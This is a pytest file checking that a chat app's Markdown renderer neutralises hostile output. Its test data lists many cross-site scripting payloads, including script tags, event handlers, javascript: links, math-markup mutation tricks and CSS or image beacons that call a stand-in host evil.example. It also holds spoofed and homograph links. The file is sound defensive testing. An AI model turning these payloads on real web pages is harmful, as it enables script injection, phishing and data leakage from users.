"""The catalogue of hostile output: what comes out can neither load nor run, and each layer holds alone."""

import pytest
from markdown_it import MarkdownIt
from markdown_it.rules_block import StateBlock

from chatapp.rendering import Incremental, join, plain, render, wrap
from chatapp.rendering.clean import clean
from chatapp.rendering.parser import Markdown, environment, top_level
from tests.rendering.dom import assert_safe

HTML = [
    "<script>alert(1)</script>",
    "<script src=https://evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    '"><svg onload=alert(1)>',
    "<svg><image href=https://evil.example/x /></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=https://evil.example></object><embed src=https://evil.example>",
    "<video src=https://evil.example poster=https://evil.example></video><audio src=x></audio>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example'; * { background: url(https://evil.example) }</style>",
    "<p style='background:url(https://evil.example)'>x</p>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<a href=https://ok.example onclick=alert(1) style=position:fixed id=x>x</a>",
    "<a href=https://ok.example ping=https://evil.example>x</a>",
    "<a href=/logout>x</a><a href=//evil.example>x</a><a href='#x'>x</a>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "<!-- --!><script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<math href=javascript:alert(1)><mi>x</mi></math>",
    "<math><maction actiontype='statusline#https://evil.example' xlink:href=javascript:alert(1)>x</maction></math>",
    "<mpadded voffset=-900px><mtext>Sign in here</mtext></mpadded>",
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title>x</title><plaintext>",
    "<code-block onclick=alert(1)><pre tabindex=1>x</pre></code-block>",
    "<copy-button>x</copy-button><live-conversation>x</live-conversation>",
    "<div class=side>x</div><span class=button>x</span>",
    "<dialog open>x</dialog><marquee onstart=alert(1)>x</marquee>",
]
PICTURES = [
    "![x](https://evil.example/?h=secret)",
    "![x](//evil.example/a.png)",
    "![x](/media/1.png)",
    "![x](data:image/png;base64,AAAA)",
    "![x](javascript:alert(1))",
    "![x][e]\n\n[e]: https://evil.example/r.png",
    '![a" onerror="alert(1)](https://evil.example/"onerror="alert(1))',
    "[![x](https://evil.example/a.png)](https://other.example)",
    "![![x](https://evil.example/1)](https://evil.example/2)",
    "| a |\n|---|\n| ![x](https://evil.example/cell) |",
    "- ![x](https://evil.example/item)\n\n> ![x](https://evil.example/quote)",
    "note[^1]\n\n[^1]: ![x](https://evil.example/note)",
    "# ![x](https://evil.example/heading)",
]
LINKS = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:x) [x](data:text/html,x) [x](file:///etc/passwd) [x](blob:x) [x](about:blank)",
    "[x](intent://x) [x](tel:1) [x](ftp://x.example) [x](ws://x.example) [x](view-source:https://x.example)",
    "[x](https:evil.example) [x](https:\\\\evil.example) [x](https:///evil.example) [x](http://)",
    "<javascript:alert(1)> <data:text/html,x>",
    "[x]\n\n[x]: javascript:alert(1)",
    '[x](https://ok.example "t\\" onmouseover=\\"alert(1)")',
    '[x](https://ok.example/"onmouseover=alert(1))',
    'https://ok.example/"onmouseover=alert(1)',
    "[x](/logout) [x](?a=1) [x](#id) [x](../up) [x]()",
]
OTHERS = [
    "$\\href{javascript:alert(1)}{x}$ $\\url{https://evil.example}$ $\\includegraphics{https://evil.example}$",
    "$\\text{<img src=x onerror=alert(1)>}$ $\\text{</math><script>alert(1)</script>}$",
    "$\\style{position:fixed}{x}$ $\\class{side}{x}$ $\\cssId{x}{y}$ $\\htmlData{x=y}{z}$",
    "$$\\begin{equation}x\\label{top}\\end{equation}$$ $\\eqref{top}$",
    "$\\raisebox{-900em}{Sign in here}$ $\\hspace{900em}x$ $\\color{red;background:url(https://evil.example)}x$",
    '```"><script>alert(1)</script>\nx\n```',
    "```html\n<script>alert(1)</script>\n```",
    "```python onclick=alert(1)\n</code></pre></code-block><script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "{{7*7}} {% debug %} ${7*7} <%= 7 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "[^<script>]: x\n\nword[^<script>]",
    "- [ ] <input type=checkbox onclick=alert(1)>",
    "| <script> | `</td>` |\n|:-|-:|\n| onclick=x | </table> |",
]
ALL = [*HTML, *PICTURES, *LINKS, *OTHERS]


def raw(text: str) -> str:
    """What the parser and its rules make of it, without the cleaning."""
    markdown = Markdown(notes=False)
    env = environment(text)
    state = StateBlock(text, markdown, env, [])
    return "".join(markdown.raw(tokens, env) for _, _, tokens in top_level(markdown, state))


@pytest.mark.parametrize("text", ALL)
@pytest.mark.parametrize("around", ["{}", "a {} b", "> - {}", "**{}**", "| h |\n|---|\n| {} |", "1. x\n\n   {}"])
def test_nothing_loads_or_runs(text: str, around: str) -> None:
    text = around.replace("{}", text)
    for html in render(text):
        assert_safe(html)
    for cut in {1, len(text) // 3, len(text) // 2, len(text) - 1, len(text)}:
        reader = Incremental()
        reader.feed(text[:cut])
        for html in [*reader.blocks, reader.tail]:
            assert_safe(html)


@pytest.mark.parametrize("text", HTML)
def test_without_cleaning_raw_html_is_still_only_text(text: str) -> None:
    html = raw(text)
    assert_safe_before_cleaning(html)
    assert "&lt;" in html


@pytest.mark.parametrize("text", PICTURES)
def test_without_cleaning_pictures_are_still_only_links(text: str) -> None:
    assert_safe_before_cleaning(raw(text))


@pytest.mark.parametrize("text", LINKS)
def test_without_cleaning_no_link_has_another_scheme(text: str) -> None:
    assert_safe_before_cleaning(raw(text))


@pytest.mark.parametrize(
    "text", ["[x](https:evil.example)", "[x](https:///evil.example)", "[x](http://)", "[x]()", "[x](/a)"]
)
def test_a_link_without_a_host_is_no_link(text: str) -> None:
    assert not assert_safe(render(text)[0]).all("a")


def assert_safe_before_cleaning(html: str) -> None:
    """As after it, but that the cleaning alone gives links their `rel` and `target`."""
    assert_safe(html.replace("<a ", '<a rel="noopener noreferrer nofollow ugc" target="_blank" '))


@pytest.mark.parametrize("text", ALL)
def test_cleaning_alone_is_enough(text: str) -> None:
    """A parser that lets everything through, pictures and raw HTML too, and no rule of ours."""
    assert_safe(clean(text))
    assert_safe(clean(MarkdownIt("commonmark", {"html": True}).render(text)))


@pytest.mark.parametrize("text", ALL)
def test_cleaning_twice_changes_nothing(text: str) -> None:
    for html in [clean(text), *render(text)]:
        assert clean(html) == html


@pytest.mark.parametrize("text", ALL)
def test_plain_text_is_only_text(text: str) -> None:
    assert_safe_text = plain(text)
    assert assert_safe_text.count("<") == 2  # its own <pre> and </pre>


def test_a_picture_is_named_with_its_host() -> None:
    document = assert_safe(render("![the *cat*](https://evil.example:8443/c.png)")[0])
    assert document.text == "[image: the cat] evil.example"
    assert document.all("a")[0]["href"] == "https://evil.example:8443/c.png"


def test_a_picture_inside_of_a_link_does_not_nest_links() -> None:
    document = assert_safe(render("[![cat](https://evil.example/c.png)](https://other.example)")[0])
    assert [link["href"] for link in document.all("a")] == ["https://other.example"]
    assert "[image: cat] evil.example" in document.text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("[https://bank.example](https://evil.example)", "https://bank.example (evil.example)"),
        ("[bank.example](https://evil.example/bank.example)", "bank.example (evil.example)"),
        ("[www.bank.example/login](http://evil.example)", "www.bank.example/login (evil.example)"),
        ("[`bank.example`](https://evil.example)", "bank.example (evil.example)"),
        ("[ba**nk.exa**mple](https://evil.example)", "bank.example (evil.example)"),
        ("[bank\u200b.example](https://evil.example)", "bank\u200b.example (evil.example)"),
        ("[bank。example](https://evil.example)", "bank。example (evil.example)"),
        ("[ｂａｎｋ．example](https://evil.example)", "ｂａｎｋ．example (evil.example)"),
        ("[bаnk.example](https://bank.example)", "bаnk.example (bank.example)"),
        ("[https://bank.example](https://bank.example@evil.example/)", "https://bank.example (evil.example)"),
        ("[https://bank.example](https://evil.example\\\\@bank.example/)", "https://bank.example"),
        ("<https://bank.example@evil.example/>", "https://bank.example@evil.example/ (evil.example)"),
        ("[alice@bank.example](mailto:eve@evil.example)", "alice@bank.example (evil.example)"),
        ("[192.168.0.1](https://evil.example)", "192.168.0.1 (evil.example)"),
        ("[bank.example](https://bank.example.evil.example)", "bank.example (bank.example.evil.example)"),
        ("<https://xn--bnk-9ka.example>", "https://bànk.example (xn--bnk-9ka.example)"),
        ("[bank.example](https://bank.example/login)", "bank.example"),
        ("[bank.example](https://www.bank.example/login)", "bank.example"),
        ("[www.bank.example](https://bank.example)", "www.bank.example"),
        ("[our bank](https://evil.example)", "our bank"),
        ("[version 2.0, e.g. this](https://ok.example)", "version 2.0, e.g. this"),
        ("[Node.js](https://nodejs.org)", "Node.js"),
        ("[alice@ok.example](mailto:alice@ok.example)", "alice@ok.example"),
        ("https://ok.example/a", "https://ok.example/a"),
    ],
)  # fmt: skip
def test_a_link_that_names_another_host_shows_its_own(text: str, shown: str) -> None:
    shown_text = assert_safe(render(text)[0]).text
    assert shown_text.lower() == shown.lower()


HIDDEN = [*map(chr, range(0xE0000, 0xE0080)), *"\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\ufeff"]
CONTROLS = [chr(c) for c in [*range(32), *range(0x7F, 0xA0)] if chr(c) not in "\n\r\t"]


@pytest.mark.parametrize("text", ["a{}b", "`a{}b`", "```\na{}b\n```", "$a{}b$", "# a{}b", "[a{}b](https://ok.example)"])
def test_what_hides_or_reorders_text_is_not_shown(text: str) -> None:
    hidden = "".join([*HIDDEN, *CONTROLS])
    html = "".join(render(text.replace("{}", hidden)))
    assert not set(html) & set(hidden)
    assert html == "".join(render(text.replace("{}", "")))


def test_marks_that_languages_need_stay() -> None:
    persian, family, thai = "می\u200cخواهم", "👩\u200d👧", "ไทย\u200bไทย"
    assert (
        assert_safe(render(f"{persian} {family} {thai} a\u200eb\u200f")[0]).text
        == f"{persian} {family} {thai} a\u200eb\u200f"
    )


def test_halves_of_surrogate_pairs_can_be_stored() -> None:
    html = "".join(render("a\ud800b\udfff `\ud83d`"))
    assert html.encode().count("\ufffd".encode()) == 3


def test_no_block_can_leave_its_element() -> None:
    """Each block is whole by itself, so that what wraps it holds it."""
    for text in ALL:
        for block in render(text):
            assert_safe(wrap(block).replace(' class="block"', ""))
        page = join(render(text), "")
        assert page.count('<div class="block">') == len(render(text))


def test_footnotes_need_no_ids_that_could_clash() -> None:
    html = "".join(render("a[^1] b[^2] c[^1]\n\n[^2]: two\n[^1]: one\n[^3]: three, which nothing mentions"))
    assert "id=" not in html
    assert " ".join(assert_safe(html).text.split()) == "a1 b2 c1 one two three, which nothing mentions"
